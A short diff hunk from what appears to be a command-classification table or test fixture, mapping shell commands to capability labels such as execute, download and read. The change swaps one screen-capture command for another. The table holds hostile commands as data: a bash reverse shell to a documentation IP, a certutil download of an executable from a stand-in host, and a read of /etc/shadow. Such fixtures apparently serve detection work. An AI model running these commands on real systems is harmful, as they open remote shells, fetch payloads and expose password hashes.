@@ -124,7 +124,7 @@ ABLE = (
     ("bash -i >& /dev/tcp/198.51.100.7/443 0>&1", Can.EXECUTE),
     ("certutil -urlcache -f http://x.example/a.exe a.exe", Can.DOWNLOAD),
     ("nltest /domain_trusts", Can.DISCOVER),
-    ("screencapture -x /tmp/a.png", Can.COLLECT),
+    ("import -window root /tmp/a.png", Can.COLLECT),
     ("cat /etc/shadow", Can.READ),
 )  # fmt: skip
 
